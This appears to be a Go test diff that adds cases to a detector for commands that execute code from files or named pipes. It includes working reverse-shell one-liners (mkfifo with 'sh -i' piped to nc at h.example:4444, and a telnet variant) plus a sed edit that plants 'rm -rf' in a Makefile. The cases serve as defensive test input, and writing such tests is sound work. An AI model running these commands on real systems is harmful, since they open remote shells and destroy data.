@@ -54,6 +54,15 @@ func TestProgramsRunTheirFiles(t *testing.T) {
 		{`sed -i 's/echo hi/rm -rf \/victim/' Makefile && make`, false, true},
 		{`perl -pi -e 's/echo/rm/' Makefile; make`, false, true},
 		{`jq '.scripts.test="x"' package.json > p && mv p package.json && npm test`, false, true},
+		// A named pipe made by the command carries what another
+		// process writes at run time (the reverse shell's loop).
+		{`mkfifo f; sh < f`, false, true},
+		{`rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h.example 4444 > /tmp/f`, false, true},
+		{`mknod /tmp/p p && bash -i < /tmp/p 2>&1 | telnet h 80 > /tmp/p`, false, true},
+		{`mkfifo -m 600 q; bash < q`, false, true},
+		{`mkfifo p; sort < p`, false, false},
+		{`mkfifo p; cat p`, false, false},
+		{`mknod /tmp/null c 1 3; bash x.sh`, true, false},
 		{`make SHELL=./x.sh`, true, false},
 		{`printf 'SHELL := ./x.sh\nall:\n\techo\n' > Makefile.x; make -f Makefile.x`, true, false},
 		{`make SHELL=$S`, false, true},
